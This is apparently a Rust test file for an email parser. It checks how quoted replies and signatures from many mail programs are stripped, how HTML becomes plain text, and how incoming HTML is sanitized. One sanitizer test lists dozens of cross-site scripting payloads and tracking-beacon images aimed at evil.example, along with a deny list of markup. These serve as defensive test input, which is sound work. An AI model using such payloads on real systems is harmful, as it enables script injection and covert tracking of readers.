//! Mails as programs write them, and mails as nobody should.

mod hostile;

use super::{Body, is_html, read_body};

fn plain(body: &str) -> String {
    read_body(body).plain.unwrap_or_default()
}

fn clean(body: &str) -> String {
    read_body(body).clean.unwrap_or_default()
}

fn html(body: &str) -> String {
    read_body(body).html.unwrap_or_default()
}

/// What stays of each mail. The name says which program wrote it.
#[test]
fn the_answer_is_left_of_what_mail_programs_send() {
    for (program, mail, wanted) in [
        (
            "Thunderbird, answer above",
            "Hallo,\n\nmein Zählerstand ist 12345.\n\nAm 12.01.2026 um 10:00 schrieb Stadtwerke Demo:\n> Guten Tag,\n> bitte nennen Sie uns\n>> den Stand\n",
            "Hallo,\n\nmein Zählerstand ist 12345.",
        ),
        (
            "Thunderbird, answers between",
            "Am 12.01.2026 um 10:00 schrieb Stadtwerke Demo:\n> Wie ist der Stand?\n12345\n> Und wann abgelesen?\nGestern.\n",
            "12345\n\nGestern.",
        ),
        (
            "Gmail, German, two lines",
            "Das passt so.\n\nAm Mo., 12. Jan. 2026 um 10:00 Uhr schrieb Stadtwerke Demo <\nservice@demo.example>:\n\n> Guten Tag\n>\n",
            "Das passt so.",
        ),
        (
            "Gmail, English",
            "Thanks, that works.\n\nOn Mon, Jan 12, 2026 at 10:00\u{202f}AM Demo Utilities <service@demo.example> wrote:\n\n> Dear customer\n",
            "Thanks, that works.",
        ),
        (
            "Gmail, forwarded with a word",
            "Bitte prüfen.\n\n---------- Forwarded message ---------\nVon: Netz <netz@demo.example>\nDate: Mo., 12. Jan. 2026 um 10:00 Uhr\nSubject: Sperrung\nTo: <max@example.de>\n\nIhr Anschluss wird gesperrt.",
            "Bitte prüfen.",
        ),
        (
            "Outlook, German",
            "Guten Tag,\n\nich kündige.\n\nMit freundlichen Grüßen\nMax Muster\n\nVon: Stadtwerke Demo <service@demo.example>\nGesendet: Montag, 12. Januar 2026 10:00\nAn: Max Muster <max@example.de>\nCc: Erika Muster <erika@example.de>;\n\tPetra <petra@example.de>\nBetreff: Ihr Vertrag\n\nGuten Tag Herr Muster,\nwir freuen uns.",
            "Guten Tag,\n\nich kündige.\n\nMit freundlichen Grüßen\nMax Muster",
        ),
        (
            "Outlook, English",
            "Please call me.\n\n-----Original Message-----\nFrom: Demo <service@demo.example>\nSent: Monday, January 12, 2026 10:00 AM\nTo: Max\nSubject: Contract\n\nDear Max",
            "Please call me.",
        ),
        (
            "Outlook on the web",
            "Ja, gerne.\n________________________________\nVon: Stadtwerke <service@demo.example>\nGesendet: Montag, 12. Januar 2026 10:00\nAn: Max <max@example.de>\nBetreff: Termin\n\nPasst Ihnen Montag?",
            "Ja, gerne.",
        ),
        (
            "Outlook, older",
            "Ja.\n\n-----Ursprüngliche Nachricht-----\nVon: Stadtwerke\nGesendet: Montag\nAn: Max\nBetreff: Termin\n\nPasst Montag?",
            "Ja.",
        ),
        (
            "Apple Mail",
            "Hier der Stand: 4711 kWh\n\nViele Grüße\nMax\n\n> Am 12.01.2026 um 10:00 schrieb Stadtwerke Demo <service@demo.example>:\n> \n> Guten Tag\n",
            "Hier der Stand: 4711 kWh\n\nViele Grüße\nMax",
        ),
        (
            "iPhone",
            "Bitte um Rückruf\n\nVon meinem iPhone gesendet\n\n> Am 12.01.2026 um 10:00 schrieb Demo <service@demo.example>:\n> \n> \u{feff}Guten Tag\n",
            "Bitte um Rückruf",
        ),
        (
            "iPhone, English, forwarded",
            "What is this?\n\nSent from my iPhone\n\nBegin forwarded message:\n\nFrom: Demo <service@demo.example>\nDate: 12 January 2026 at 10:00\nTo: Max\nSubject: Bill\n\nYour bill",
            "What is this?",
        ),
        (
            "GMX",
            "Hallo,\ndie Rechnung stimmt nicht.\nGruß Max\n \n\nGesendet: Montag, 12. Januar 2026 um 10:00 Uhr\nVon: \"Stadtwerke\" <service@demo.example>\nAn: max@gmx.example\nBetreff: Rechnung\n\nGuten Tag",
            "Hallo,\ndie Rechnung stimmt nicht.\nGruß Max",
        ),
        (
            "GMX app",
            "Passt.\n-- \nDiese Nachricht wurde von meinem Android Mobiltelefon mit GMX Mail gesendet.\nAm 12.01.26, 10:00 schrieb Stadtwerke <service@demo.example>:\nGuten Tag",
            "Passt.",
        ),
        (
            "WEB.DE app",
            "Umzug zum 1.2.\n\nGesendet mit der WEB.DE Mail App\n\n\nMax schrieb am 12.01.2026, 10:00:\n\n> Hallo\n",
            "Umzug zum 1.2.",
        ),
        (
            "Samsung",
            "Ich ziehe um.\n\n\nVon meinem Samsung Galaxy Smartphone gesendet.\n\n\n-------- Ursprüngliche Nachricht --------\nVon: Stadtwerke <service@demo.example>\nDatum: 12.01.26 10:00 (GMT+01:00)\nAn: max@example.de\nBetreff: Umzug\n\nGuten Tag",
            "Ich ziehe um.",
        ),
        (
            "Samsung, on one line",
            "Ich ziehe um.\n-------- Ursprüngliche Nachricht --------Von: Stadtwerke Datum: 12.01.26 Betreff: Umzug\nGuten Tag",
            "Ich ziehe um.",
        ),
        (
            "K-9",
            "Ja bitte.\n\nAm 12. Januar 2026 10:00:00 MEZ schrieb Stadtwerke <service@demo.example>:\n>Guten Tag\n\n-- \nDiese Nachricht wurde von meinem Android-Gerät mit K-9 Mail gesendet.",
            "Ja bitte.",
        ),
        (
            "Yahoo",
            "Stimmt.\n\nYahoo Mail: Suchen, organisieren, die Kontrolle behalten\n\n  Am Montag, 12. Januar 2026 um 10:00:00 MEZ hat Stadtwerke <service@demo.example> Folgendes geschrieben:\n\n Guten Tag",
            "Stimmt.",
        ),
        ("Outlook for iOS", "Danke!\n\nHolen Sie sich Outlook für iOS<https://aka.ms/o0ukef>\n", "Danke!"),
        ("Outlook for Android, English", "Thank you\n\nGet Outlook for Android<https://aka.ms/AAb9ysg>", "Thank you"),
        ("Avast", "Stand 99\n\n--\nDiese E-Mail wurde von Avast-Antivirussoftware auf Viren geprüft.\nwww.avast.com\n", "Stand 99"),
        (
            "a company",
            "Guten Tag,\nanbei der Auftrag.\n\nMit freundlichen Grüßen\n\nErika Muster\nEinkauf\n\nMuster GmbH\nMusterstraße 1\n12345 Musterstadt\nTel.: +49 30 123456\nerika@muster.example\nAmtsgericht Musterstadt HRB 1234\n\nDiese E-Mail enthält vertrauliche Informationen. Wenn Sie nicht der richtige Adressat sind,\ninformieren Sie uns bitte.\n",
            "Guten Tag,\nanbei der Auftrag.\n\nMit freundlichen Grüßen\n\nErika Muster",
        ),
    ] {
        assert_eq!(clean(mail), wanted, "{program}");
        assert!(plain(mail).len() > wanted.len(), "{program}: the text itself must stay whole");
    }
}

/// The harm: a customer's words are gone, and nobody knows.
#[test]
fn what_only_looks_like_a_quote_or_a_signature_stays() {
    for mail in [
        "Am 3. Mai schrieb mir Ihr Kollege folgendes:\nDie Rechnung wird storniert.\nWann kommt sie?",
        "Von meinem Handy aus kann ich die Seite nicht öffnen.",
        "Von meinem iPhone aus geht es nicht.\nBitte um Hilfe.",
        "Gesendet von meinem Mann am Freitag: der Stand ist 123.",
        "Mit freundlichen Grüßen\nMax\n\nPS: Mein Zähler hängt im Keller, bitte klingeln Sie bei 030 123456.",
        "Viele Grüße\nMax Muster",
        "Mit freundlichen Grüßen\nMax Muster\n\nZählernummer 1EMH0012345678\nbitte beachten",
        "Die Werte:\n--\nTag 1: 100\nNacht 2: 200\n\n".repeat(8).trim(),
        "Von: Berlin\nNach: Hamburg ziehe ich um.",
        "Gruß an alle, die hier mitlesen und den Strom abstellen wollen",
    ] {
        assert_eq!(clean(mail), plain(mail), "{mail}");
    }
}

#[test]
fn numbers_of_a_signature_stay() {
    let mail =
        "Bitte um Rückruf.\n\nMit freundlichen Grüßen\nMax Muster\nMusterstraße 1\n12345 Berlin\nKundennummer: 83771\nTel. 030 123456";
    assert_eq!(clean(mail), "Bitte um Rückruf.\n\nMit freundlichen Grüßen\nMax Muster\nKundennummer: 83771");
    assert_eq!(clean("Hallo\n-- \nMax\nVertragsnummer 746839\nwww.example.de"), "Hallo\n\nVertragsnummer 746839".replace("\n\n", "\n"));
}

#[test]
fn an_answer_below_quote_or_signature_stays() {
    let mail = "Vorab.\n\nGruß\nMax\nTel. 030 1234567\n\nAm 12.01.2026 um 10:00 schrieb Demo <a@demo.example>:\n> Frage 1?\n\nAntwort eins.\n\n> Frage 2?\nAntwort zwei.";
    assert_eq!(clean(mail), "Vorab.\n\nGruß\nMax\n\nAntwort eins.\n\nAntwort zwei.");
}

/// A forwarded mail without a word of its own is all there is.
#[test]
fn cleaning_never_empties_a_message() {
    for mail in [
        "> nur zitiert",
        "-- \nMax Muster",
        "Von meinem iPhone gesendet",
        "Von meinem iPhone gesendet\n\nAnfang der weitergeleiteten Nachricht:\n\nVon: Demo <a@demo.example>\nDatum: 12. Januar 2026\nAn: Max\nBetreff: Mahnung\n\nSie schulden uns 10 Euro.",
        "---------- Forwarded message ---------\nVon: A <a@demo.example>\nDate: heute\nSubject: x\n\nInhalt",
        "Von: Max Muster\nAn: Stadtwerke\nDatum: 12.01.2026\nBetreff: Kündigung\n\nHiermit kündige ich.",
        "<blockquote type=cite>nur zitiert</blockquote>",
        "<div id=divRplyFwdMsg>Von: A</div><p>Inhalt</p>",
        "<div class=gmail_signature>Max</div>",
        "<div style='display:none'>versteckt</div>",
        "Mit freundlichen Grüßen",
    ] {
        let body = read_body(mail);
        let (plain, clean) = (body.plain.unwrap(), body.clean.unwrap_or_default());
        assert!(clean.chars().any(char::is_alphanumeric), "{mail}: {clean:?}");
        if mail.contains("weitergeleitet") {
            assert!(clean.contains("Sie schulden uns 10 Euro."), "{clean}");
        }
        if mail.starts_with("Von: Max") {
            assert_eq!(clean, plain);
        }
    }
    assert_eq!(read_body(" \r\n "), Body::default());
    assert_eq!(read_body(""), Body::default());
    assert_eq!(read_body("<p> </p>").plain, None);
    // A picture is a message without words.
    let picture = read_body("<p><img src='cid:a1'></p>");
    assert!(picture.html.is_some() && picture.plain.is_none() && picture.clean.is_none(), "{picture:?}");
}

#[test]
fn html_of_mail_programs() {
    for (program, mail, wanted) in [
        (
            "Gmail",
            r#"<div dir="ltr">Ja, bitte.</div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">Am Mo., 12. Jan. 2026 um 10:00&nbsp;Uhr schrieb Demo &lt;<a href="mailto:a@demo.example">a@demo.example</a>&gt;:<br></div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex"><div>Guten Tag</div></blockquote></div>"#,
            "Ja, bitte.",
        ),
        (
            "Gmail, answers between",
            r#"<div><div class="gmail_quote"><div class="gmail_attr">Am 12.01.2026 um 10:00 schrieb Demo:</div><blockquote class="gmail_quote">Frage?</blockquote><div>Antwort!</div><blockquote class="gmail_quote">Noch eine?</blockquote><div>Nein.</div></div></div>"#,
            "Antwort!\n\nNein.",
        ),
        (
            "Outlook on the web",
            r#"<html><head><style>p{margin:0}</style></head><body><div>Ich ziehe um.</div><div id="Signature"><p>Max Muster</p><p>Tel. 030 123</p></div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>Von:</b> Demo<br><b>Gesendet:</b> Montag<br><b>Betreff:</b> x</div><div>Guten Tag</div></body></html>"#,
            "Ich ziehe um.",
        ),
        (
            "Outlook on the desktop",
            r"<div class=WordSection1><p class=MsoNormal>Bitte stornieren.<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p class=MsoNormal><b>Von:</b> Demo &lt;a@demo.example&gt; <br><b>Gesendet:</b> Montag, 12. Januar 2026 10:00<br><b>An:</b> Max<br><b>Betreff:</b> Rechnung<o:p></o:p></p></div><p class=MsoNormal>Guten Tag</p></div>",
            "Bitte stornieren.",
        ),
        (
            "Apple Mail",
            r#"<body>Der Stand ist 1.<div><br><blockquote type="cite"><div>Am 12.01.2026 um 10:00 schrieb Demo &lt;a@demo.example&gt;:</div><div>Hallo</div></blockquote></div></body>"#,
            "Der Stand ist 1.",
        ),
        (
            "Thunderbird",
            r#"<p>Passt.</p><div class="moz-cite-prefix">Am 12.01.26 um 10:00 schrieb Demo:<br></div><blockquote type="cite" cite="mid:x"><p>Guten Tag</p></blockquote><pre class="moz-signature">-- 
Max</pre>"#,
            "Passt.",
        ),
        (
            "GMX",
            r#"<div><div>Gerne.</div><div name="quote" style="margin:10px; padding: 10px; border-left:2px solid #C3D9E5;"><div style="margin:0 0 10px 0;"><b>Gesendet:</b> Montag<br/><b>Von:</b> Demo</div>Guten Tag</div></div>"#,
            "Gerne.",
        ),
    ] {
        assert_eq!(clean(mail), wanted, "{program}");
        assert!(plain(mail).contains("Guten Tag") || plain(mail).contains("Frage?") || plain(mail).contains("Hallo"), "{program}");
    }
}

#[test]
fn the_text_of_html_keeps_its_lines() {
    let mail = "<h2>Titel</h2><p>Guten Tag,<br>\n Z&auml;hler&nbsp;<b>1</b> ist\n  <i>rot</i>.</p><div>a</div><div><br></div><div>b</div><ul><li>eins<li>zwei<ol><li>innen</ol></ul>\
        <table><tr><td>Stand</td><td>12</td></tr><tr><td><p>oben</p></td><td><p>unten</p></td></tr></table><a href='https://x.example/y'>hier</a><hr>Ende &lt;ok&gt; &amp;amp;<pre>x\n  y</pre>\
        <blockquote>Zitat<br>zwei<blockquote>innen</blockquote></blockquote>";
    let wanted = "Titel\n\nGuten Tag,\nZähler 1 ist rot.\n\na\n\nb\n\n- eins\n- zwei\n  1. innen\n\nStand\t12\n\noben\n\nunten\n\nhier\nEnde <ok> &amp;\n\nx\n  y\n\n> Zitat\n> zwei\n\n> > innen";
    assert_eq!(plain(mail), wanted);
    let long = format!("<p>{}</p>", "Wort ".repeat(500));
    assert_eq!(plain(&long).lines().count(), 1);
}

/// Long texts are cut into pieces on the way; nothing of that shows.
#[test]
fn a_long_text_stays_in_one_piece() {
    let words = "Größe&nbsp;&amp; Zähler\u{a7} ".repeat(20_000);
    assert_eq!(plain(&format!("<p>{words}</p>")), "Größe & Zähler§ ".repeat(20_000).trim());
    let word = "ä&auml;<!-- -->".repeat(20_000);
    assert_eq!(plain(&format!("<p>{word}</p>")), "ä".repeat(40_000));
    for before in 0..50 {
        let mail = format!("<p>{}{}</p>", "x".repeat(before), "&amp;".repeat(4_000));
        assert!(!plain(&mail).contains("amp"), "{before}");
    }
}

#[test]
fn plain_text_becomes_html() {
    assert_eq!(
        html("Hallo <max@example.de>,\r\nZeile & mehr\r\n\r\nNeu"),
        "<p>Hallo &lt;max@example.de&gt;,<br>Zeile &amp; mehr</p><p>Neu</p>"
    );
    assert_eq!(plain("a\u{0}b\u{200b}c  \n\n\n\nd"), "abc\n\nd");
}

#[test]
fn html_is_told_from_text() {
    for text in
        ["a < b", "a <b and c> d", "<max@example.de>", "1 <2> 3", "<Zählerstand>", "if a<b then", "<https://x.example>", "<p", "&lt;p&gt;"]
    {
        assert!(!is_html(text), "{text}");
    }
    for text in ["<p>x", "x<br>y", "x<BR/>y", "<a href=x>", "<!DOCTYPE html><x>", "<font  color='red'>", "</div>", "<html xmlns:o=x>"] {
        assert!(is_html(text), "{text}");
    }
}

#[test]
fn nothing_that_runs_or_calls_home_is_left() {
    for mail in [
        "<p onclick=alert(1)>x</p>",
        "<script>alert(1)</script>x",
        "<p>x</p><SCRIPT SRC=//evil.example></SCRIPT >",
        "<scr<script>ipt>alert(1)</script>x",
        "<img src=x onerror=alert(1)>x",
        "<img src='javascript:alert(1)'>x",
        "<img src='data:text/html,<script>alert(1)</script>'>x",
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href='data:text/html,alert(1)'>x</a>",
        "<a href='vbscript:alert(1)'>x</a>",
        "<p style='background:url(https://evil.example/)'>x</p>",
        "<p style='color:red;background-color:u\\72l(https://evil.example/)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<style>@import url(https://evil.example/)</style>x",
        "<form action=https://evil.example><input name=a><button>x</button></form>",
        "<iframe src=https://evil.example></iframe>x",
        "<object data=https://evil.example></object>x",
        "<svg><style><img src=x onerror=alert(1)></style></svg>x",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x</noscript>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<table><td title='`><script>alert(1)</script>'>x</table>",
        "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=https://evil.example><p>x",
        "<p>x<!-- --!><img src=x onerror=alert(1)> --></p>",
        "<p id=login class=admin>x</p>",
        // What tells the sender when a message is read.
        "<img src='https://evil.example/a.png'>x",
        "<img src='HTTP://evil.example/a.png' width=1 height=1>x",
        "<img src='htt&#112;s://evil.example/a.png'>x",
        "<img src=' https://evil.example/a.png'>x",
        "<img src='ht\ntps://evil.example/a.png'>x",
        "<img src='//evil.example/a.png'>x",
        "<img src='\\\\evil.example\\a.png'>x",
        "<img src='ftp://evil.example/a.png'>x",
        "<img src='cid&#58;1' srcset='https://evil.example/a.png 2x' lowsrc='https://evil.example' dynsrc='https://evil.example'>x",
        "<img src='data:image/svg+xml,<svg><image href=\"https://evil.example\"/></svg>'>x",
        "<img src='data:image/pngsvg+xml,evil.example'>x",
        "<img data-src='cid:1' onload='this.src=\"https://evil.example\"'>x",
        "<picture><source srcset='https://evil.example/a.png'><img src='https://evil.example/a.png'></picture>x",
        "<video poster='https://evil.example/a.png' src='https://evil.example/a'><source src='https://evil.example/a'></video>x",
        "<audio src='https://evil.example/a' autoplay></audio><embed src='https://evil.example/a'><bgsound src='https://evil.example/a'>x",
        "<object data='https://evil.example/a'><img src='https://evil.example/a.png'></object><applet code='https://evil.example'></applet>x",
        "<input type=image src='https://evil.example/a.png'><frameset><frame src='https://evil.example'></frameset>x",
        "<svg><image href='https://evil.example/a.png' xlink:href='https://evil.example/a.png'/><use href='https://evil.example/a'/></svg>x",
        "<v:fill src='https://evil.example/a.png'/><v:imagedata src='https://evil.example/a.png'/>x",
        "<body background='https://evil.example/a.png'><table background='https://evil.example/a.png'><tr><td background='https://evil.example/a.png'>x</table>",
        "<p style='background:#fff u&#114;l(//evil.example)'>x</p>",
        "<p style='background-image:image-set(\"https://evil.example/a.png\" 1x)'>x</p>",
        "<p style='list-style-image:src(\"https://evil.example/a.png\");color:red'>x</p>",
        "<p style='border-image-source:image(\"https://evil.example/a.png\")'>x</p>",
        "<p style='content:\"https://evil.example/a.png\";cursor:image(\"https://evil.example\")'>x</p>",
        "<link rel=prefetch href='https://evil.example/a'><link rel=dns-prefetch href='//evil.example'><link rel=icon href='https://evil.example/a'>x",
        "<style>@import 'https://evil.example/a.css'; @font-face { font-family: x; src: url(https://evil.example/a.woff) }</style><p>x</p>",
        "<html manifest='https://evil.example/a'><a ping='https://evil.example/a' href='mailto:a@ok.example'>x</a></html>",
        "<template><img src='https://evil.example/a.png'></template>x",
    ] {
        let (made, said) = (html(mail), plain(mail));
        // Text and attribute values may say anything; markup is what stands outside of them.
        let markup: String = markup(&made).to_lowercase();
        for bad in [
            "script",
            "onerror",
            "onclick",
            "evil.example",
            "expression",
            "<form",
            "<input",
            "<iframe",
            "<svg",
            "<style",
            "<meta",
            "id=",
            "class=",
        ] {
            assert!(!markup.contains(bad), "{mail}: {made}");
        }
        assert!(!mail.contains('x') || said.contains('x') || made.contains('x'), "{mail}: {made} {said}");
    }
    let kept = html(
        "<a href='https://ok.example/?a=1&amp;b=2' target=_top>x</a><img src='cid:1'><img src='data:image/png;base64,AA'><p style='color:red;position:fixed'>y</p>",
    );
    assert!(kept.contains("href=\"https://ok.example/?a=1&amp;b=2\"") && kept.contains("rel=\"noopener noreferrer\""), "{kept}");
    assert!(kept.contains("src=\"cid:1\"") && kept.contains("src=\"data:image/png;base64,AA\""), "{kept}");
    assert!(kept.contains("color:red") && !kept.contains("position"), "{kept}");
    for kind in
        ["data:image/png;base64,AA", "data:image/jpeg;base64,AA", "data:image/jpg;base64,AA", "DATA:image/GIF,AA", "data:image/webp,AA"]
    {
        assert_eq!(html(&format!("<img src='{kind}'>")), format!("<img src=\"{kind}\">"));
    }
}

/// A reader may want to see it still.
#[test]
fn the_address_of_a_remote_picture_is_kept_apart() {
    for (mail, kept) in [
        (
            "<img src='https://ok.example/a.png?b=1&amp;c=2' alt=Logo>",
            "<img data-src=\"https://ok.example/a.png?b=1&amp;c=2\" alt=\"Logo\">",
        ),
        ("<p><IMG SRC=http://ok.example/a.png></p>", "<p><img data-src=\"http://ok.example/a.png\"></p>"),
        ("<img data-src='https://ok.example/a.png'>", "<img>"),
        ("<img src='a.png'>", "<img>"),
        ("<p data-src='https://ok.example/a.png'>x</p>", "<p>x</p>"),
    ] {
        assert_eq!(html(mail), kept, "{mail}");
    }
}

/// HTML without its text and without the values of `title`, `alt` and `data-src`, which do nothing.
fn markup(html: &str) -> String {
    let mut out = String::new();
    for tag in html.split('<').skip(1) {
        let mut inside = tag.split('"').enumerate();
        let mut value_matters = true;
        for (index, piece) in inside.by_ref() {
            if index % 2 == 0 {
                value_matters = !["title=", "alt=", "data-src="].iter().any(|name| piece.trim_end().ends_with(name));
                let end = piece.find('>');
                out.push_str(&piece[..end.unwrap_or(piece.len())]);
                if end.is_some() {
                    break;
                }
            } else if value_matters {
                out.push_str(piece);
            }
        }
        out.push('\n');
    }
    out.split('\n').flat_map(|tag| ["<", tag]).collect()
}

#[test]
fn hidden_text_is_not_said() {
    let mail = "<div style=\"DISPLAY : none\">Nicht <div>hier</div></div><p>Hallo</p>";
    assert_eq!(plain(mail), "Hallo");
    assert!(!html(mail).contains("Nicht"));
}

#[test]
fn broken_html_keeps_its_words() {
    for (mail, wanted) in [
        ("<p>a<p>b<p>c", "a\n\nb\n\nc"),
        ("<div><table><tr><td>a</div>b</table>c", "ab\n\nc"),
        ("<p>a <b>b</p>c", "a b\n\nc"),
        ("<p>x</p><!-- offen", "x\n\noffen"),
        ("<p>x</p><a href=\"offen>y</a> <b>z</b>", "x\n\ny z"),
        ("<p>x</p><style>kein Ende", "x\n\nkein Ende"),
        ("<p>1 < 2</p>", "1 < 2"),
        ("<p>Z&auml;hler &uuml &#228;&#xE4;&euro; A&B &foo; &amp;auml;</p>", "Zähler ü ää€ A&B &foo; &auml;"),
        ("<P>a</P ><BR/><xyz>b</xyz>", "a\n\nb"),
        ("<![if !mso]><p>a</p><![endif]><!--[if mso]>weg<![endif]-->", "a"),
    ] {
        assert_eq!(plain(mail), wanted, "{mail}");
    }
}
